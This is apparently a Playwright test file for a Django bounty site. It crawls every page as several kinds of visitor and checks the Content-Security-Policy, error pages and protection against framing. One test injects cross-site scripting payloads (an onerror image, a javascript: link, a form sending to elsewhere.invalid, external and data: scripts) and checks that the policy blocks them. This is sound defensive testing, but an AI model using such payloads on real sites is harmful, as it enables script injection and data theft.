"""A real browser opens every page of the site, as each kind of visitor: nothing breaks the Content-Security-Policy.

It starts where visitors start and follows links, the admin site's too. A page must load all that it asks for, from
this site alone, and report nothing to the console.
"""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from playwright.sync_api import Browser, Page, expect
from pytest_django.live_server_helper import LiveServer

from bounty.models import Bounty, Submission
from gainshare.accounts.models import User
from gainshare.accounts.services import create_api_key
from gainshare.capacity.models import Deployment
from gainshare.ledger.price_book import publish_price
from tests.bounty.bounty_world import diff_of_line
from tests.bounty.bug_world import BugWorld
from tests.bounty.services.runners.pool_world import add_host, add_node
from tests.chromium import Watch, new_page, started_chromium
from tests.gainshare.capacity.scaling.scaling_world import make_class, passes, serve
from tests.gainshare.gateway.charged_world import PRICES

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.timeout(900)]
STARTS = ["/", "/api/docs/", "/api/reference/", "/signup/", "/how/", "/nothing/", "/bounties/?page=9999"]
# These change something, or are no pages; of the admin site's lists one view stands for all filters.
SKIPPED = re.compile(r"^/(logout|static|api/schema|api/v1|v1)/|/live/|/admin/(logout|jsi18n)/|/admin/.*\?")
EACH_KIND_ONCE = re.compile(r"[0-9a-f]{8}-[0-9a-f-]{27}|[0-9a-f]{64}|(?<=/)\d+(?=/)")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with started_chromium() as chromium:
        yield chromium


@pytest.fixture
def world() -> BugWorld:
    """Something on every page: judged, paid, refused, disputed and reproduced."""
    made = BugWorld()
    made.vested(made.ann, diff_of_line(1, "fast = 1"))
    made.gate(made.submit(made.ann, diff_of_line(2, "slow = 1")), -0.4)
    made.submit(made.bob, "no diff")
    made.adopted(made.bob)
    made.fix(made.ann)
    made.submit(made.bob, diff_of_line(3, "fast = 3"))
    create_api_key(user=made.ann, name="laptop", scopes=["read"])
    add_node(add_host(made.mira), 0)
    passes(serve(make_class("spot-a10")))
    Deployment.objects.create(
        model="tiny", tree=made.lineage.tip_id, lineage=made.lineage.name, reason="asked for by a test"
    )
    publish_price(model="tiny", effective_at=timezone.now(), actor=made.mira, **PRICES)
    User.objects.filter(pk=made.mira.pk).update(is_staff=True, is_superuser=True)
    return made


def pages_of(world: BugWorld) -> list[str]:
    """Pages that look different from row to row, and those that only some rows link to."""
    bounties = [
        f"/bounties/{name}/" for bounty in Bounty.objects.all() for name in (bounty.pk, bounty.short_name)
    ]
    submissions = [f"/submissions/{submission.pk}/" for submission in Submission.objects.all()]
    wanted = world.open_bug(title="No one has shown this one")
    return [*bounties, *submissions, f"/bounties/{wanted.pk}/", f"/bounties/{wanted.pk}/reproduce/"]


def crawl(page: Page, watch: Watch, starts: list[str]) -> tuple[set[str], dict[str, list[str]]]:
    """Crawl the site; return the visited paths and each page's errors. One page of each kind is visited."""
    waiting, kinds, opened = list(starts), set(), set()
    asked: set[str] = set()
    complaints: dict[str, list[str]] = {}
    told = 0
    while waiting:
        path = waiting.pop(0)
        kind = EACH_KIND_ONCE.sub("x", path)
        if path in asked or (kind in kinds and path not in starts) or SKIPPED.search(path):
            continue
        asked.add(path)
        kinds.add(kind)
        answer = page.goto(path)
        assert answer is not None
        opened.add(urlsplit(path).path)
        policy = answer.headers.get("content-security-policy", "")
        found = [] if "script-src 'self'" in policy and "unsafe" not in policy else [f"policy: {policy}"]
        expected = answer.status
        found += [
            text
            for text in watch.complaints[told:]
            if not (expected >= 400 and f"status of {expected}" in text)
        ]
        told = len(watch.complaints)  # what comes later is the next page's to tell
        if found:
            complaints[path] = found
        addresses = page.eval_on_selector_all("a[href]", "links => links.map(link => link.href)")
        waiting += [
            _path(address) for address in addresses if urlsplit(address).netloc == urlsplit(page.url).netloc
        ]
    return opened, complaints


def _path(address: str) -> str:
    parts = urlsplit(address)
    return parts.path + (f"?{parts.query}" if parts.query else "")


def pages_of_the_site(patterns: list[URLPattern | URLResolver] | None = None, at: str = "^") -> list[str]:
    """A regular expression for each address that is a page for people, the admin site's left out."""
    found = []
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        here = at + pattern.pattern.regex.pattern.removeprefix("^").removesuffix("\\Z")
        if isinstance(pattern, URLResolver):
            found += pages_of_the_site(pattern.url_patterns, here)
        elif not re.match(r"\^(admin|api/v1|api/schema|v1|api/\(|api/$)", here):
            found.append(here + "$")
    return found


def test_no_page_breaks_the_policy(live_server: LiveServer, browser: Browser, world: BugWorld) -> None:
    opened: set[str] = set()
    various = pages_of(world)
    for visitor, starts in (
        (None, STARTS),
        (world.ann, STARTS),
        (world.mira, [*STARTS, "/stop/", "/admin/"]),
    ):
        page = new_page(browser, live_server.url, visitor)
        # No model node runs here, which the playground would be told by a 503.
        page.route(
            "**/playground/api/models", lambda route: route.fulfill(json={"object": "list", "data": []})
        )
        seen, complaints = crawl(page, Watch(page, live_server.url), [*starts, *various])
        assert complaints == {}, visitor
        opened |= seen
        page.context.close()
    assert len([path for path in opened if path.startswith("/admin/")]) > 20
    missed = [
        page for page in pages_of_the_site() if not any(re.search(page, path.lstrip("/")) for path in opened)
    ]
    assert {page for page in missed if not ACTIONS.search(page)} == set()


# Addresses that take forms alone, or answer scripts.
ACTIONS = re.compile(
    r"logout|revoke|escrow|close|decline|live|action|playground/.|stop/\(|release|base/\(|usage/\(|keys/\(|/read/|repository/|reversal/|github/"
    r"|/law/|/deploy/|rollback/"
)


def test_refusals_keep_the_policy(
    live_server: LiveServer, browser: Browser, world: BugWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = new_page(browser, live_server.url, world.mira)
    watch = Watch(page, live_server.url)
    page.goto("/bounties/new/")
    page.locator("main button[type=submit]").click()  # every field is wrong
    page.context.clear_cookies()
    page.goto("/login/")
    page.context.clear_cookies()
    page.locator("main button[type=submit]").click()  # 403: the form has lost its cookie
    expect(page.locator("h1")).to_have_text("This form was out of date")
    monkeypatch.setattr("bounty.pages.how.render", None)
    page.goto("/how/")
    expect(page.locator("h1")).to_have_text("Something failed on our side")
    assert [text for text in watch.complaints if "Failed to load resource" not in text] == []


def test_what_an_attacker_brings_in_does_not_run(live_server: LiveServer, browser: Browser) -> None:
    """If a page did not escape a text, the browser would still not run it or send anything."""
    page = new_page(browser, live_server.url)
    watch = Watch(page, live_server.url)
    page.goto("/")
    mark = f"m{uuid4().hex}"
    page.evaluate(
        """mark => {
            const place = document.createElement("div");
            place.innerHTML = `<img src=x: onerror="window.${mark} = 1"><a id=evil href="javascript:window.${mark}=1">x</a>`
              + `<form id=away action="https://elsewhere.invalid/"><input name=a value=b></form><p id=styled style="color: red">x</p>`;
            document.body.append(place);
            for (const source of ["https://elsewhere.invalid/a.js", "data:text/javascript,window." + mark + "=1"]) {
              const script = document.createElement("script");
              script.src = source;
              document.body.append(script);
            }
            document.body.append(Object.assign(document.createElement("script"), {textContent: `window.${mark} = 1`}));
            document.querySelector("#evil").click();
        }""",
        mark,
    )
    page.evaluate("() => document.querySelector('#away').submit()")
    page.wait_for_timeout(500)
    assert page.evaluate(f"() => window.{mark}") is None
    assert page.url == f"{live_server.url}/"
    assert (
        page.evaluate("() => getComputedStyle(document.querySelector('#styled')).color") != "rgb(255, 0, 0)"
    )
    assert sum("Content Security Policy" in text for text in watch.complaints) >= 5


def test_no_other_site_may_frame_a_page(live_server: LiveServer, browser: Browser) -> None:
    page = new_page(browser, live_server.url)
    framed = [
        text
        for text in _console_of(page, f'<iframe src="{live_server.url}/login/"></iframe>')
        if "frame" in text
    ]
    assert framed


def _console_of(page: Page, html: str) -> list[str]:
    texts: list[str] = []
    page.on("console", lambda message: texts.append(message.text))
    page.set_content(html)
    page.wait_for_timeout(1000)
    return texts


def test_swagger_and_the_reference_show_every_operation(live_server: LiveServer, browser: Browser) -> None:
    page = new_page(browser, live_server.url)
    watch = Watch(page, live_server.url)
    page.goto("/api/docs/")
    expect(page.locator(".opblock-tag")).to_have_count(27, timeout=30_000)
    page.locator(".opblock-tag", has_text="bounties").click()
    page.locator(".opblock-summary", has_text="All bounties, the newest first").click()
    page.get_by_role("button", name="Try it out").click()
    page.get_by_role("button", name="Execute").click()
    expect(page.locator(".live-responses-table tbody .response-col_status").first).to_contain_text(
        "200", timeout=30_000
    )
    page.goto("/api/reference/")
    assert page.locator("article.api-operation[id^='v1_'], article.api-operation").count() > 150
    expect(page.locator("#bounties_list h3")).to_have_text("All bounties, the newest first")
    page.locator(".api-index a", has_text="Answer a conversation").click()
    expect(page.locator("#v1_chat_create")).to_be_in_viewport()
    expect(page.locator("#shape-ChatRequest")).to_contain_text("temperature")
    assert watch.complaints == []
